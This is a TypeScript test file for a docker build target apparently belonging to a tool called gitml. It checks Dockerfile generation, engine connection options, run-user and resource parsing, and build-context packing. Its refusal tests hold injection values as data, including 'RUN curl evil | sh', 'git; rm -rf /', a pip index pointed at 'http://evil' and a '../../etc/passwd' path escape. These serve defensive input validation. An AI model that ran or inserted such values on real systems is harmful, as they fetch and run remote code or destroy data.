/**
 * Pure parts of the docker target: the generated environment Dockerfile (layer order, exec-form
 * RUN lines so no shell parses user values, refusal of values that would inject
 * instructions), image tags, engine addresses and connection options, user/resource parsing.
 */
import { describe, expect, test } from 'vitest';
import { dockerOptions, engineAddress, isUnavailable, redactAddress } from '../../core/docker/client.js';
import { environmentDependencyLayers, environmentImageTag, renderEnvironmentDockerfile, runUserDockerfile } from '../../core/docker/environment-image.js';
import { memoryBytes, nanoCpus, runUser } from '../../core/targets/docker.js';
import { GitmlError } from '../../core/errors.js';
import { dockerignore, packFolder } from '../../core/docker/tar.js';
import { extract } from 'tar-stream';
import { tmpDir, writeFiles, removeDir } from '../support/repo.js';
import { env } from './helpers.js';

const D = 'sha256:' + '0123456789abcdef'.repeat(4);
const files: Record<string, string> = { 'reqs/requirements.txt': 'numpy==1.26.4\n' };
const read = async (rel: string) => {
  if (!(rel in files)) throw new Error(`no ${rel}`);
  return Buffer.from(files[rel]!);
};

/** The JSON array of an exec-form RUN line. */
const runArgs = (line: string): string[] => JSON.parse(line.slice('RUN '.length)) as string[];

async function codeOf(p: Promise<unknown>): Promise<string | undefined> {
  try {
    await p;
    return undefined;
  } catch (e) {
    return e instanceof GitmlError ? e.code : `not a GitmlError: ${String(e)}`;
  }
}

describe('generated environment Dockerfile', () => {
  test('dependency layers come first in a fixed order; labels and user last', async () => {
    const e = env('train', { image: 'gitml/python:bookworm', apt: ['libgomp1', 'git'], requirements: 'reqs/requirements.txt', pip: ['scikit-learn==1.5.0', 'pandas>=2'] });
    const { dockerfile, files: ctx } = await renderEnvironmentDockerfile(e, D, read);
    const lines = dockerfile.trim().split('\n');
    expect(lines[0]).toBe('FROM gitml/python:bookworm');
    const idx = (pred: (l: string) => boolean) => lines.findIndex(pred);
    const user = idx((l) => l.startsWith('RUN') && runArgs(l)[2]!.includes('/etc/passwd'));
    const apt = idx((l) => l.startsWith('RUN') && runArgs(l)[2]!.includes('apt-get install') && runArgs(l).includes('libgomp1'));
    const copyReq = idx((l) => l.startsWith('COPY gitml-requirements.txt'));
    const pip = idx((l) => l.startsWith('RUN') && runArgs(l).includes('scikit-learn==1.5.0'));
    const label = idx((l) => l.startsWith('LABEL'));
    expect(user).toBeGreaterThan(0);
    expect(apt).toBeGreaterThan(user);
    expect(copyReq).toBeGreaterThan(apt);
    expect(pip).toBeGreaterThan(copyReq);
    expect(label).toBeGreaterThan(pip);
    expect(lines.at(-1)).toBe('USER 1000:1000');
    expect(dockerfile).toContain('WORKDIR /gitml/code');
    expect(ctx['gitml-requirements.txt']!.toString()).toBe(files['reqs/requirements.txt']);
    // User values are positional arguments of a fixed script, never part of it.
    expect(runArgs(lines[apt]!).slice(-2)).toEqual(['libgomp1', 'git']);
    expect(runArgs(lines[apt]!)[2]).not.toContain('libgomp1');
    expect(runArgs(lines[pip]!).slice(-2)).toEqual(['scikit-learn==1.5.0', 'pandas>=2']);
    expect(dockerfile).toContain(`"dev.gitml.digest"="${D}"`);
  });

  test('the dependency layers do not depend on the digest or the name (a model image reuses them)', async () => {
    const a = await environmentDependencyLayers(env('a', { image: 'gitml/python:bookworm', apt: ['git'] }), read);
    const b = await environmentDependencyLayers(env('b', { image: 'gitml/python:bookworm', apt: ['git'] }), read);
    expect(a.lines).toEqual(b.lines);
    const full = await renderEnvironmentDockerfile(env('a', { image: 'gitml/python:bookworm', apt: ['git'] }), D, read);
    expect(full.dockerfile.startsWith(a.lines.join('\n') + '\n')).toBe(true);
  });

  test('the run-user layer is the same text for every environment on a base (one cached layer)', async () => {
    const a = await renderEnvironmentDockerfile(env('a', { image: 'gitml/tiny:latest' }), D, read);
    const b = await renderEnvironmentDockerfile(env('b', { image: 'gitml/tiny:latest', pip: ['x'] }), D, read);
    expect(a.dockerfile.split('\n').slice(0, 3)).toEqual(b.dockerfile.split('\n').slice(0, 3));
    expect(runUserDockerfile('gitml-env/a:1234-base', 'a', D)).toContain('FROM gitml-env/a:1234-base\nUSER root\nRUN ');
  });

  test.each([
    ['an image with a newline', { image: 'gitml/python:bookworm\nRUN curl evil | sh' }],
    ['an image with spaces', { image: 'gitml/python bookworm' }],
    ['no image', {}],
    ['an apt name with a shell metacharacter', { image: 'debian', apt: ['git; rm -rf /'] }],
    ['an apt option', { image: 'debian', apt: ['-oAPT::X=1'] }],
    ['a pip option', { image: 'debian', pip: ['--index-url=http://evil'] }],
    ['a pip editable', { image: 'debian', pip: ['-e', '.'] }],
    ['a pip value with a newline', { image: 'debian', pip: ['numpy\nRUN x'] }],
  ])('refuses %s (INVALID_ENTITIES)', async (_what, spec) => {
    expect(await codeOf(renderEnvironmentDockerfile(env('x', spec), D, read))).toBe('INVALID_ENTITIES');
  });

  test('a requirements path that escapes the repository is PATH_ESCAPE', async () => {
    expect(await codeOf(renderEnvironmentDockerfile(env('x', { image: 'debian', requirements: '../../etc/passwd' }), D, read))).toBe('PATH_ESCAPE');
  });
});

describe('image tags', () => {
  test('gitml-env/<name>:<16 hex of the digest>, lowercased and docker-safe', () => {
    expect(environmentImageTag('sklearn', D)).toBe('gitml-env/sklearn:0123456789abcdef');
    expect(environmentImageTag('My_Env.V2', D)).toBe('gitml-env/my_env.v2:0123456789abcdef');
    expect(() => environmentImageTag('x', 'not-a-digest')).toThrow(GitmlError);
  });
});

describe('engine addresses and connection options', () => {
  test('compute host wins over $DOCKER_HOST, which wins over the default socket', () => {
    expect(engineAddress({}, {})).toBe('unix:///var/run/docker.sock');
    expect(engineAddress({}, { DOCKER_HOST: 'tcp://10.0.0.1:2375' })).toBe('tcp://10.0.0.1:2375');
    expect(engineAddress({ host: 'ssh://me@box' }, { DOCKER_HOST: 'tcp://10.0.0.1:2375' })).toBe('ssh://me@box');
    expect(engineAddress({}, { DOCKER_HOST: '10.0.0.1:2375' })).toBe('tcp://10.0.0.1:2375');
  });

  test('a unix socket clears every tcp field docker-modem would take from $DOCKER_HOST', () => {
    const o = dockerOptions({ kind: 'ComputeTarget', type: 'docker', host: 'unix:///run/x.sock' }, undefined, { env: { DOCKER_HOST: 'tcp://1.2.3.4:2375' } });
    expect(o.socketPath).toBe('/run/x.sock');
    expect('host' in o && o.host === undefined).toBe(true);
  });

  test('tcp without TLS is http on 2375 by default; ssh takes the user and port', () => {
    expect(dockerOptions({ kind: 'ComputeTarget', type: 'docker', host: 'tcp://box' }, undefined, { env: {} })).toMatchObject({ host: 'box', port: '2375', protocol: 'http' });
    const s = dockerOptions({ kind: 'ComputeTarget', type: 'docker', host: 'ssh://alice@box:2222' }, undefined, { env: { HOME: '/nonexistent' } });
    expect(s).toMatchObject({ host: 'box', port: '2222', protocol: 'ssh', username: 'alice' });
  });

  test('a missing TLS file is a TARGET error naming it; an unknown scheme is a TARGET error', () => {
    let err: unknown;
    try {
      dockerOptions({ kind: 'ComputeTarget', type: 'docker', host: 'tcp://box:2376', tls: { ca: 'certs/none.pem' } }, '/tmp', { env: {} });
    } catch (e) {
      err = e;
    }
    expect(err).toBeInstanceOf(GitmlError);
    expect((err as GitmlError).code).toBe('TARGET');
    expect(() => dockerOptions({ kind: 'ComputeTarget', type: 'docker', host: 'ftp://box' }, undefined, { env: {} })).toThrow(GitmlError);
  });

  test('TLS files: ~/ is the home folder, a relative path is from the repository root', () => {
    const home = tmpDir('gitml-tls-home-');
    const repo = tmpDir('gitml-tls-repo-');
    try {
      writeFiles(home, { '.docker/box/ca.pem': 'home-ca' });
      writeFiles(repo, { 'cert.pem': 'repo-cert' });
      const o = dockerOptions({ kind: 'ComputeTarget', type: 'docker', host: 'tcp://box:2376', tls: { ca: '~/.docker/box/ca.pem', cert: 'cert.pem' } }, repo, { env: { HOME: home } });
      expect(String(o.ca)).toBe('home-ca');
      expect(String(o.cert)).toBe('repo-cert');
    } finally {
      removeDir(home);
      removeDir(repo);
    }
  });

  test('passwords never reach messages or run records', () => {
    expect(redactAddress('ssh://alice:hunter2@box')).not.toContain('hunter2');
  });

  test('connection failures are "unavailable", engine answers are not', () => {
    expect(isUnavailable(Object.assign(new Error('connect ECONNREFUSED 127.0.0.1:1'), { code: 'ECONNREFUSED' }))).toBe(true);
    expect(isUnavailable(Object.assign(new Error('connect ENOENT /var/run/docker.sock'), { code: 'ENOENT' }))).toBe(true);
    expect(isUnavailable(Object.assign(new Error('(HTTP code 404) no such container'), { statusCode: 404 }))).toBe(false);
  });
});

describe('run user and resources', () => {
  test('default 1000:1000; root refused in every spelling', () => {
    expect(runUser(undefined)).toEqual({ user: '1000:1000', uid: 1000, gid: 1000 });
    expect(runUser('1234')).toEqual({ user: '1234:1234', uid: 1234, gid: 1234 });
    for (const u of ['0', '0:0', '1000:0', 'root', 'root:root']) expect(() => runUser(u)).toThrow(GitmlError);
  });

  test('cpu and memory quantities', () => {
    expect(nanoCpus(2)).toBe(2e9);
    expect(nanoCpus('500m')).toBe(5e8);
    expect(nanoCpus('1.5')).toBe(1.5e9);
    expect(memoryBytes('512Mi')).toBe(512 * 1024 * 1024);
    expect(memoryBytes('1G')).toBe(1e9);
    expect(() => nanoCpus('lots')).toThrow(GitmlError);
    expect(() => memoryBytes('big')).toThrow(GitmlError);
  });
});

describe('.dockerignore and build-context tars', () => {
  test('last matching rule wins; a matched folder excludes its contents; exceptions re-include', async () => {
    const { ignore, descendIgnored } = await dockerignore('# c\ndata\n**/*.log\n!important.log\n/build/\n');
    expect(descendIgnored).toBe(true);
    expect(ignore('data')).toBe(true);
    expect(ignore('data/x/y.csv')).toBe(true);
    expect(ignore('src/data.py')).toBe(false);
    expect(ignore('a/b/debug.log')).toBe(true);
    expect(ignore('important.log')).toBe(false);
    expect(ignore('build/out.o')).toBe(true);
    expect(ignore('Dockerfile')).toBe(false);
  });

  test('packFolder leaves out ignored entries, keeps modes and symlinks, skips .git', async () => {
    const dir = tmpDir('gitml-pack-');
    try {
      writeFiles(dir, { 'a.txt': 'a', 'data/big.bin': 'b', 'src/run.sh': '#!/bin/sh\n', '.git/HEAD': 'x' });
      const { chmodSync, symlinkSync } = await import('node:fs');
      chmodSync(`${dir}/src/run.sh`, 0o755);
      symlinkSync('a.txt', `${dir}/link`);
      const { ignore } = await dockerignore('data\n');
      const entries: Array<{ name: string; mode: number; type: string; uid: number }> = [];
      await new Promise<void>((resolve, reject) => {
        const ex = extract();
        ex.on('entry', (h, body, next) => {
          entries.push({ name: h.name, mode: h.mode, type: h.type, uid: h.uid });
          body.on('end', () => next());
          body.resume();
        });
        ex.on('finish', () => resolve());
        ex.on('error', reject);
        packFolder(dir, { prefix: 'code', uid: 1000, gid: 1000, ignore }).pipe(ex as unknown as NodeJS.WritableStream);
      });
      const names = entries.map((e) => e.name).sort();
      expect(names).toEqual(['code/', 'code/a.txt', 'code/link', 'code/src/', 'code/src/run.sh']);
      expect(entries.find((e) => e.name === 'code/src/run.sh')!.mode & 0o111).toBe(0o111);
      expect(entries.find((e) => e.name === 'code/link')!.type).toBe('symlink');
      expect(entries.every((e) => e.uid === 1000)).toBe(true);
    } finally {
      removeDir(dir);
    }
  });
});
